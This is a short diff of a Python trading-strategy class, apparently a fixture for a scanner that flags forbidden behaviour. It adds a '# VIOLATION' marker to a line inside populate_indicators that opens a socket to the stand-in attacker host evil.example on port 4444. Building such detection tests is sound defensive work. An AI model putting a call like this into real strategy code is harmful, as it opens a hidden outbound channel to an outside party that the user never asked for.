@@ -22,7 +22,7 @@ class SocketConnect(IStrategy):
 
     def populate_indicators(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
         dataframe["rsi"] = ta.RSI(dataframe, timeperiod=14)
-        socket.create_connection(("evil.example", 4444))
+        socket.create_connection(("evil.example", 4444))  # VIOLATION
         return dataframe
 
     def populate_entry_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
